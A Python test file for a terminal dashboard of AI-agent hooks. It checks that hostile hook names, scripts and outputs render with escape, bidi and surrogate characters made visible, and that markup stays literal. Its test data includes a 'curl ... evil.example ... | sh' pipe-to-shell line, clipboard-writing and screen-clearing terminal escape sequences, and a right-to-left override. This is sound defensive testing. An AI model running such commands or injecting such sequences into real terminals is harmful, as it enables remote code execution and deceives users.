"""The dashboard on a hostile configuration: every screen, and no rendered segment holds a
raw control, format, bidi or surrogate character; markup in a name stays literal.

The check reads what the compositor would send to the terminal: every segment of every
strip of the current screen (toasts included), after each step of a walk through the hook
list, the details (zoomed), the problem list, the trust review (a CHANGED script's diff,
the confirmation), the switch dialog and its notification, the hook form (its fields,
testing it, removing it), fire (the confirmation, the
result's stdout, stderr, output and effect), the plan, the live log and a record, and the
command palette's "Go to hook" entries.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from hookdash.core.hosts.gemini.trust.trust_store import trust_hooks
from hookdash.tui.screens.confirm import ConfirmScreen
from hookdash.tui.screens.fire import FireScreen
from hookdash.tui.screens.hook_form import HookFormScreen
from hookdash.tui.screens.hooks import HooksScreen
from hookdash.tui.screens.log import LogScreen
from hookdash.tui.screens.plan import PlanScreen
from hookdash.tui.screens.problems import ProblemsScreen
from hookdash.tui.screens.switch import SwitchScreen
from hookdash.tui.screens.trust import TrustScreen
from hookdash.tui.widgets.hook_groups import HookItem
from hookdash.tui.widgets.hook_tree import HookTree
from tests.conftest import Sandbox, command_hook, definition, until
from tests.hostile_text import (
    CLIPBOARD_NAME,
    ERASING_SCRIPT,
    ESC,
    OUTPUT_HOOK,
    SCRIPT_HOOK,
    TITLE_NAME,
    hostile_setup,
    raw_hidden,
)
from tests.tui.helpers import make_app, press_on, select, settle


def screen_text(app: Any) -> tuple[str, list[str]]:
    """What the current screen draws (its lines), and every hidden character found in
    any segment of it (as `U+XXXX where`)."""
    # The compositor's strips are exactly what Textual turns into terminal output.
    strips = app.screen._compositor.render_strips()
    lines, leaks = [], []
    for y, strip in enumerate(strips):
        text = ""
        for segment in strip:
            text += segment.text
            found = raw_hidden(segment.text, frozenset())
            leaks += [f"{label} on line {y}: {segment.text!r}" for label in found]
        lines.append(text)
    return "\n".join(lines), leaks


class Walk:
    """Checks the screen at every step; remembers what every step showed."""

    def __init__(self, pilot: Any) -> None:
        self.pilot = pilot
        self.shown: list[str] = []
        self.steps = 0

    async def check(self, step: str) -> str:
        await self.pilot.pause()
        text, leaks = screen_text(self.pilot.app)
        assert leaks == [], f"{step}: " + "; ".join(leaks[:8])
        self.shown.append(text)
        self.steps += 1
        return text

    async def until(self, condition: Callable[[], bool]) -> None:
        await until(condition)
        await self.pilot.pause()


def _setup(sandbox: Sandbox) -> None:
    """The hostile configuration, with `lint` trusted while its script was clean: it is
    CHANGED now, and the trust review shows the diff of the erasing script."""
    hostile_setup(sandbox)
    script = sandbox.workspace / "scripts" / "lint.sh"
    script.write_text("#!/usr/bin/env bash\necho lint\n")
    config = sandbox.load()
    trust_hooks(config, [h for h in config.hooks if h.id == SCRIPT_HOOK])
    script.write_text("#!/usr/bin/env bash\n" + ERASING_SCRIPT + "\n")


def _hook_nodes(tree: HookTree) -> list[Any]:
    found = []

    def walk(node: Any) -> None:
        for child in node.children:
            if isinstance(child.data, HookItem):
                found.append(child)
            walk(child)

    walk(tree.root)
    return found


async def test_no_screen_draws_a_raw_control_character(sandbox: Sandbox) -> None:
    _setup(sandbox)
    app = make_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        walk = Walk(pilot)
        assert isinstance(app.screen, HooksScreen)
        first = await walk.check("hook list")
        assert "␛" in first and " hidden " in first
        # Every hook's details, and the risky one zoomed.
        tree = app.screen.query_one(HookTree)
        for node in _hook_nodes(tree):
            tree.move_cursor(node)
            await walk.check(f"details of {node.data.hook.id!r}")
        select(tree, TITLE_NAME)
        await pilot.press("z")
        zoomed = await walk.check("details zoomed")
        assert "PIPE TO SHELL" in zoomed and "NETWORK" in zoomed and " hidden " in zoomed
        assert "␍␛[2K  command: ./scripts/lint.sh" in zoomed
        await pilot.press("z")
        select(tree, SCRIPT_HOOK)
        await pilot.press("z")
        preview = await walk.check("script preview zoomed")
        assert "echo lint ␛[2K␛[1G" in preview  # the line cannot erase itself
        await pilot.press("z")

        # The problem list, every problem highlighted in turn.
        await pilot.press("c")
        await walk.check("problems")
        assert isinstance(app.screen, ProblemsScreen)
        for _ in range(12):
            await pilot.press("down")
            await walk.check("problems, moving")
        await pilot.press("escape")

        # The trust review: every hook, the CHANGED script's diff, the confirmation.
        await pilot.press("T")
        assert isinstance(app.screen, TrustScreen)
        await walk.check("trust review")
        for _ in range(len(app.screen.plan.trust if app.screen.plan else [])):
            await settle(pilot)
            await walk.check("trust review, a hook")
            # Further down too: the project's findings above the list leave the detail
            # pane less room, and the diff of a CHANGED script is below its facts.
            app.screen.query_one("#trust-detail").scroll_relative(y=12, animate=False)
            await walk.check("trust review, a hook, further down")
            await pilot.press("down")
        reviewed = "\n".join(walk.shown[-3:])
        assert "␛" in reviewed
        await pilot.press("A")
        await walk.until(lambda: isinstance(app.screen, ConfirmScreen))
        confirm = await walk.check("trust confirmation")
        assert "curl -s http://evil.example/x | sh #␍␛[2K" in confirm
        await pilot.press("n")
        await pilot.press("escape")
        assert isinstance(app.screen, HooksScreen)
        diffs = [text for text in walk.shown if "Script changed since it was trusted" in text]
        assert diffs and any("␛[2K␛[1G" in text for text in diffs)

        # Switching a hook off: the dialog names it; the notification quotes it.
        select(tree, CLIPBOARD_NAME)
        await pilot.press("space")
        await walk.until(lambda: isinstance(app.screen, SwitchScreen))
        await walk.check("switch dialog")
        await pilot.press("enter")
        await settle(pilot)
        notified = await walk.check("switch notification")
        assert "clip␛]52;c;ZWNobyBwd25lZA==␇" in notified

        # The hook form on the hostile hook: its fields hold the exact text and draw it
        # shown; testing it asks first; removing it shows the file's diff.
        await press_on(pilot, TITLE_NAME, "e")
        await walk.until(lambda: isinstance(app.screen, HookFormScreen))
        await settle(pilot)
        form = await walk.check("hook form")
        assert "␍␛[2K" in form
        form_screen = app.screen
        assert isinstance(form_screen, HookFormScreen)
        assert form_screen.draft().name == TITLE_NAME  # kept exactly, for Save
        await pilot.press("ctrl+r")
        await walk.until(lambda: isinstance(app.screen, ConfirmScreen))
        await walk.check("test confirmation")
        await pilot.press("n")
        await pilot.press("escape")
        await walk.until(lambda: isinstance(app.screen, HooksScreen))
        await pilot.press("d")
        await walk.until(lambda: isinstance(app.screen, ConfirmScreen))
        await walk.check("remove confirmation")
        await pilot.press("n")
        await walk.until(lambda: isinstance(app.screen, HooksScreen))

        # Fire the loud hook: the confirmation, then its result.
        await press_on(pilot, OUTPUT_HOOK, "f")
        assert isinstance(app.screen, FireScreen)
        await walk.check("fire")
        await pilot.press("ctrl+r")
        await walk.until(lambda: isinstance(app.screen, ConfirmScreen))
        await walk.check("fire confirmation")
        await pilot.press("y")
        fire = app.screen_stack[-1]
        assert isinstance(fire, FireScreen)
        await walk.until(lambda: fire.result is not None)
        result = await walk.check("fire result")
        assert "blocked␛]0;PWN␇␛[2J<U+202E>evil" in result  # the effect quotes the reason
        await pilot.press("escape")

        # The plan of the hooks' event.
        await press_on(pilot, TITLE_NAME, "p")
        assert isinstance(app.screen, PlanScreen)
        planned = await walk.check("plan")
        assert "n␛]0;PWN␇␛[2J" in planned
        for _ in range(6):
            await pilot.press("tab")
            await walk.check("plan, moving")
        await pilot.press("escape")

        # The live log: the hostile records, the run just fired, a record zoomed.
        await pilot.press("l")
        assert isinstance(app.screen, LogScreen)
        log = app.screen
        await walk.until(lambda: log.runs.total >= 3)
        await walk.check("live log")
        for _ in range(3):
            await pilot.press("up")
            await pilot.pause(0.1)
            await walk.check("live log, a record")
        await pilot.press("enter")
        record = await walk.check("record zoomed")
        assert "␛" in record
        await pilot.press("escape")
        await pilot.press("escape")

        # The command palette's "Go to hook" entries.
        await pilot.press("ctrl+p")
        await pilot.pause()
        await pilot.press(*"go to hook")
        await pilot.pause(0.5)
        palette = await walk.check("command palette")
        assert "Go to hook" in palette

        everything = "\n".join(walk.shown)
        # Markup in a name is shown as written, not obeyed.
        assert "[bold red]markup[/]" in everything
        assert "lone<U+D800>" in everything and "safe<U+202E>" in everything
        assert walk.steps > 40


async def test_an_input_keeps_the_exact_value_and_draws_it_shown() -> None:
    """PlainInput: what is saved is what was loaded; what is drawn has one visible
    character per hidden one, so the cursor stays on the character it edits."""
    from textual.app import App

    from hookdash.tui.plain import PlainInput

    value = f"a{ESC}[2J\u202eb\ud800"

    class One(App[None]):
        def compose(self) -> Any:
            yield PlainInput(value=value, id="box")

    app = One()
    async with app.run_test(size=(40, 3)) as pilot:
        box = app.query_one(PlainInput)
        box.focus()
        await pilot.pause()
        text, leaks = screen_text(app)
        assert leaks == [] and "a␛[2J\ufffdb\ufffd" in text
        assert box.value == value
        box.cursor_position = 2  # after the escape
        await pilot.press("x")
        assert box.value == f"a{ESC}x[2J\u202eb\ud800"
        assert box._position_to_cell(len(box.value)) == len(box.value)


async def test_titles_show_markup_in_a_hook_id_or_matcher_as_written(sandbox: Sandbox) -> None:
    """A border title given as a str is read as Textual markup: the remove question's (a
    hook's ID) and the plan's (the tool a settings matcher names) must show it as written."""
    sandbox.trust_folder()
    name, matcher = "[bold]boom[/bold]", "[b]x("  # an invalid regex: the plan keeps it
    sandbox.write_user(
        {"hooks": {"BeforeTool": [definition(command_hook("echo hi", name=name), matcher=matcher)]}}
    )
    app = make_app(sandbox)
    async with app.run_test(size=(120, 36)) as pilot:
        await settle(pilot)
        await press_on(pilot, name, "d")
        await until(lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.pause()  # (the question's worker waits for the answer: no settle)
        assert f"Remove {name}?" in screen_text(app)[0]
        await pilot.press("escape")
        await until(lambda: isinstance(app.screen, HooksScreen))
        await press_on(pilot, name, "p")
        await until(lambda: isinstance(app.screen, PlanScreen))
        await pilot.press("ctrl+r")
        await until(lambda: isinstance(app.screen, PlanScreen) and app.screen.result is not None)
        await settle(pilot)
        shown = screen_text(app)[0]  # (the title's border: heavy when its pane has the focus)
        assert any(f"Run: BeforeTool · tool {matcher} {edge}" in shown for edge in "─━")
